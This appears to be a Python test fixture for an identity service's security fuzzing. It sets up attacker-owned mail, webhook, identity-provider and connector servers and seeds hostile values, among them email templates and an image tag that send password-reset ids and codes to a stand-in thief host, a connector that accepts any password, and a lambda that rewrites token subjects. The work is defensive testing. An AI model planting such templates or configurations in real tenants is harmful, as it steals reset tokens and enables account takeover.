"""A privileged tenant: its administrators, what an attacker owns, and what callers of the default tenant find there.

Everything is real: the attacker's mail server, webhook receiver, identity provider and connector record what the
service tells them.
"""

from __future__ import annotations

import contextlib
import dataclasses
import urllib.parse
from collections.abc import AsyncIterator
from typing import Any

import httpx
import orjson

from identity import app
from identity.app import ADMINISTRATOR_APPLICATION_ID
from identity.ids import new_id
from tests import connectors, fake_provider, plain_http, relying_party, scim, two_factor
from tests.boundary.victims import Victims
from tests.conftest import DEFAULT_TENANT, MANAGER_KEY, SUPER_KEY
from tests.console.administrator import Page
from tests.fake_provider import FakeProvider
from tests.fuzz import objects
from tests.fuzz.known_values import KnownValues
from tests.loopback import Loopback
from tests.mailbox import Mailbox, receiving
from tests.receiver import Receiver
from tests.receiver import receiving as receiving_webhooks
from tests.relying_party import PASSWORD, REDIRECT_URI, RelyingParty

Document = dict[str, Any]

TENANT = f"/api/tenant/{DEFAULT_TENANT}"
OTHER_TENANT = "5c1a4f5e-0f7e-4d3a-9a52-6d1d6e0a0009"
TENANT_HEADER = {"X-FusionAuth-TenantId": DEFAULT_TENANT}
MERGE_PATCH = {"Content-Type": "application/merge-patch+json"}
STOLEN = "https://thief.example.com/?id="
RECONCILE = "function reconcile(user, registration, idToken) { user.data.seen = true; }"
_EVENTS = ("audit-log.create", "event-log.create", "jwt.refresh", "user.login.success", "user.password.reset.send",
           "user.password.reset.start", "user.two-factor.challenge", "user.update")  # fmt: skip
_REFRESHING = ("generateRefreshTokens", "allowTokenRefresh")
_TIMEOUTS = {"connectTimeout": 500, "readTimeout": 1000}
_VALIDATE = "function validate(result, user, registration, context) {}"
_POPULATE = "function populate(jwt, user, registration) { jwt.seen = true; }"
_LAMBDAS = {"JWTPopulate": _POPULATE, "LoginValidation": _VALIDATE, "OpenIDReconcile": RECONCILE,
            "SelfServiceRegistrationValidation": _VALIDATE}  # fmt: skip


@dataclasses.dataclass
class Attacker:
    """The servers of an attacker, with a person who has an account in the tenant."""

    mailbox: Mailbox
    receiver: Receiver
    provider: FakeProvider
    connector: Receiver
    asserted: Document = dataclasses.field(default_factory=dict)
    """The user that the connector returns for every login."""
    person: Document = dataclasses.field(default_factory=dict)

    def seen(self) -> str:
        """Return everything that the servers received."""
        requests = [*self.receiver.requests, *self.connector.requests, *self.provider.receiver.requests]
        bodies = [repr(request.path) + request.body.decode("utf-8", "replace") for request in requests]
        return "\n".join(bodies + [mail.raw.decode("utf-8", "replace") for mail in self.mailbox.mails])

    def forget(self) -> None:
        """Forget what the servers received."""
        for receiver in (self.receiver, self.connector, self.provider.receiver):
            receiver.requests.clear()
        self.mailbox.mails.clear()


@dataclasses.dataclass
class World:
    """The service with everything that a sequence of calls meets."""

    service: app.Service
    api: httpx.AsyncClient
    manager: httpx.AsyncClient
    console_box: Mailbox
    attacker: Attacker
    victims: Victims
    rp: RelyingParty
    known: KnownValues = dataclasses.field(default_factory=KnownValues)
    """What calls refer to: the objects of the tenant, the administrators, and what the attacker owns."""
    scim_token: str = ""
    planted: dict[str, str] = dataclasses.field(default_factory=dict)
    """The ids of the attacker's provider, connector and group of administrators."""

    def client(self, **headers: str) -> httpx.AsyncClient:
        """Return a client of the service with a cookie jar of its own."""
        return httpx.AsyncClient(
            base_url=self.service.base_url, timeout=30, transport=Loopback(), headers={**TENANT_HEADER, **headers}
        )

    async def make(self, path: str, body: Document, method: str = "POST") -> Document:
        """Create or change something with all permissions."""
        headers = MERGE_PATCH if method == "PATCH" else {"Content-Type": "application/json"}
        answer = await self.api.request(method, path, content=orjson.dumps(body), headers=headers)
        assert answer.status_code == 200, (path, answer.text)
        return dict(answer.json()) if answer.content else {}

    async def make_key(self, key: Document) -> Document:
        """Create an API key."""
        answer = await self.manager.post("/api/api-key", json={"apiKey": key})
        assert answer.status_code == 200, answer.text
        return dict(answer.json()["apiKey"])


@contextlib.asynccontextmanager
async def of(service: app.Service, clock: Any, console_box: Mailbox) -> AsyncIterator[World]:
    """A world around a service whose console mails go to `console_box`."""
    headers = {"Authorization": SUPER_KEY, **TENANT_HEADER}
    async with (
        httpx.AsyncClient(base_url=service.base_url, timeout=30, transport=Loopback(), headers=headers) as api,
        plain_http.client(service.base_url, headers={"Authorization": MANAGER_KEY}, timeout=30) as manager,
        receiving() as mailbox,
        receiving_webhooks() as receiver,
        receiving_webhooks() as connector,
        fake_provider.providing(clock) as provider,
    ):
        attacker = Attacker(mailbox, receiver, provider, connector)
        connector.behaviour = _accepting(attacker)
        tenant = (await api.get(TENANT)).json()["tenant"]
        rp = await relying_party.make(api, tenant=tenant)
        world = World(service, api, manager, console_box, attacker, Victims(service, api), rp)
        await _plant(world)
        await _configure(world)
        _plant_values(world)
        await world.victims.appoint(world.planted["groupId"])
        world.victims.add_to(world.known)
        yield world


def _accepting(attacker: Attacker) -> Any:
    """The behaviour of a connector that accepts every password, for the user that the attacker asserts."""

    async def behave(request: Any, writer: Any) -> None:
        body = orjson.dumps({"user": {"id": new_id(), "active": True, **attacker.asserted}})
        head = f"HTTP/1.1 200 Any\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        writer.write(head.encode() + body)

    return behave


async def _configure(world: World) -> None:
    """Enable what the attacks go through: mails, connectors, dynamic registration, SCIM, and all methods of login."""
    template = (await world.make("/api/email/template", {"emailTemplate": {
        "name": new_id(), "defaultSubject": "s", "defaultTextTemplate": STOLEN + "${changePasswordId!''} ${code!''}",
        "defaultHtmlTemplate": "<p>x</p>"}}))["emailTemplate"]["id"]  # fmt: skip
    world.planted["emailTemplateId"] = template
    mails = dict.fromkeys(("forgotPasswordEmailTemplateId", "passwordlessEmailTemplateId"), template)
    world.planted["connectorId"] = await connectors.make(world.api, connectors.generic(world.attacker.connector.url))
    workflow = {"enabled": True}
    tenant = {
        "emailConfiguration": world.attacker.mailbox.configuration(**mails),
        "passwordEncryptionConfiguration": relying_party.CHEAP,
        "oauthConfiguration": {"clientRegistrationEnabled": True},
        "eventConfiguration": {"events": {name: {"enabled": True, "transactionType": "None"} for name in _EVENTS}},
        "familyConfiguration": {"enabled": True},
        "multiFactorConfiguration": {"authenticator": workflow, "email": {**workflow, "templateId": template}},
        "webAuthnConfiguration": {**workflow, "bootstrapWorkflow": workflow},
        "ssoConfiguration": {"allowAccessTokenBootstrap": True},
    }
    await world.make(TENANT, {"tenant": tenant}, "PATCH")
    application = {
        "loginConfiguration": {"requireAuthentication": False, **dict.fromkeys(_REFRESHING, True)},
        "passwordlessConfiguration": workflow,
        "registrationConfiguration": {**workflow, "type": "basic"},
        "oauthConfiguration": {"enabledGrants": ["authorization_code", "password", "refresh_token",
                                                 "urn:ietf:params:oauth:grant-type:device_code"],
                               "generateRefreshTokens": True,
                               "deviceVerificationURL": "https://fuzz.example.com/activate"},
        "roles": [{"name": "staff"}],
    }  # fmt: skip
    await world.make(f"/api/application/{world.rp.client_id}", {"application": application}, "PATCH")


async def _plant(world: World) -> None:
    """Create an object of each kind, and register it with the known values."""
    await objects.plant(world.api, world.manager, world.known)
    await world.make(f"/api/tenant/{OTHER_TENANT}", {"tenant": {"name": "Other"}})
    console = (await world.api.get(f"/api/application/{ADMINISTRATOR_APPLICATION_ID}")).json()["application"]
    role = next(role["id"] for role in console["roles"] if role["name"] == "admin")
    group = await world.make("/api/group", {"group": {"name": new_id()}, "roleIds": [role]})
    world.planted |= {"groupId": group["group"]["id"], "roleId": role}
    url = world.attacker.receiver.url
    planted: list[tuple[str, Document]] = [
        *(
            ("/api/lambda", {"lambda": {"name": new_id(), "type": kind, "body": body}})
            for kind, body in _LAMBDAS.items()
        ),
        ("/api/messenger", {"messenger": {"name": new_id(), **_TIMEOUTS, "type": "Generic", "url": url}}),
        ("/api/user-action", {"userAction": {"name": new_id(), "temporal": True, "preventLogin": True}}),
        (
            "/api/webhook",
            {"webhook": {**_TIMEOUTS, "url": url, "global": True, "eventsEnabled": dict.fromkeys(_EVENTS, True)}},
        ),
        ("/api/identity-provider", provider_of(world.attacker.provider, world.rp.client_id)),
    ]
    for path, wanted in planted:
        made = await world.make(path, wanted)
        world.known.remember(made)
        if path == "/api/identity-provider":
            world.planted["identityProviderId"] = made["identityProvider"]["id"]
        if path == "/api/lambda":
            world.planted[made["lambda"]["type"]] = made["lambda"]["id"]
    await _plant_scim(world)
    await _plant_person(world)


def provider_of(provider: FakeProvider, *application_ids: str, **members: Any) -> Document:
    """Return an identity provider of the attacker, enabled for applications."""
    oauth2 = {"client_id": provider.client_id, "client_secret": "s", "issuer": provider.issuer,
              "clientAuthenticationMethod": "client_secret_post"}  # fmt: skip
    enabled = {application_id: {"enabled": True, "createRegistration": True} for application_id in application_ids}
    return {
        "identityProvider": {
            "type": "OpenIDConnect", "name": new_id(), "enabled": True, "oauth2": oauth2, "tenantId": DEFAULT_TENANT,
            "applicationConfiguration": enabled, "linkingStrategy": "LinkByEmail", **members,
        }
    }  # fmt: skip


async def _plant_scim(world: World) -> None:
    """Give the tenant a SCIM client of the attacker, with every permission."""
    types, entities = {}, {}
    for kind, permissions in (("client", []), ("server", scim.PERMISSIONS)):
        body = {"name": new_id(), "permissions": [{"name": name} for name in permissions]}
        types[kind] = (await world.make("/api/entity/type", {"entityType": body}))["entityType"]["id"]
        made = await world.make("/api/entity", {"entity": {"name": new_id(), "type": {"id": types[kind]}}})
        entities[kind] = made["entity"]
    settings = {"enabled": True, "clientEntityTypeId": types["client"], "serverEntityTypeId": types["server"]}
    await world.make(TENANT, {"tenant": {"scimServerConfiguration": settings}}, "PATCH")
    http = world.client()
    client = scim.ScimClient(world.api, http, world.rp.tenant, entities["server"], entities["client"])
    world.scim_token = await client.authorize()
    await http.aclose()
    world.planted |= {"scimClientId": entities["client"]["id"], "scimServerId": entities["server"]["id"]}


async def _plant_person(world: World) -> None:
    """Give the attacker an account of the tenant, and what belongs to it."""
    person = await relying_party.make_user(world.api, DEFAULT_TENANT, world.rp.client_id, birthDate="1980-01-01")
    world.attacker.person = person
    world.known.remember({"user": person})


def _plant_values(world: World) -> None:
    """Add the values with which members are attacks."""
    known, attacker = world.known, world.attacker
    values: dict[str, list[Any]] = {
        "applicationId": [world.rp.client_id, world.rp.client_id, ADMINISTRATOR_APPLICATION_ID],
        "authenticationURL": [attacker.connector.url],
        "baseURL": ["https://thief.example.com"],
        "body": [RECONCILE, "function populate(jwt, user, registration) { jwt.sub = 'x'; }"],
        "client_id": [world.rp.client_id, ADMINISTRATOR_APPLICATION_ID],
        "client_secret": [world.rp.secret],
        "connectorId": [world.planted["connectorId"]],
        "defaultHtmlTemplate": [f"<img src='{STOLEN}${{changePasswordId!''}}'>"],
        "defaultTextTemplate": [STOLEN + "${changePasswordId!''} ${code!''}"],
        "emailTemplateId": [world.planted["emailTemplateId"]],
        "entityId": [world.planted["scimServerId"], world.planted["scimClientId"]],
        "groupId": [*known.of("groupId"), world.planted["groupId"]],
        "host": ["127.0.0.1"],
        "identityProviderId": [world.planted["identityProviderId"]],
        "issuer": [attacker.provider.issuer, "https://thief.example.com"],
        "password": [PASSWORD, "another password of the thief"],
        "port": [attacker.mailbox.port],
        "recipientEntityId": [world.planted["scimClientId"]],
        "redirect_uri": [REDIRECT_URI],
        "roleId": [world.planted["roleId"], *(role["id"] for role in world.rp.application.get("roles", ()))],
        "roles": ["admin", "staff", "user-manager"],
        "secret": [two_factor.SECRET],
        "tenantId": [DEFAULT_TENANT],
        "url": [attacker.receiver.url],
    }
    for name, found in values.items():
        known.add(name, *found)


async def log_in(
    world: World, browser: httpx.AsyncClient, email: str, *, password: str = PASSWORD, **changes: str
) -> httpx.Response:
    """Log in at the page of an application, if it shows a form for that."""
    shown = await world.rp.authorize(browser, **changes)
    form = next((form for form in Page(shown).forms if "password" in form["fields"]), None)
    if form is None:
        return shown
    data = {**form["fields"], "loginId": email, "password": password}
    return await browser.post(urllib.parse.urljoin(str(shown.url), form["action"]), data=data)
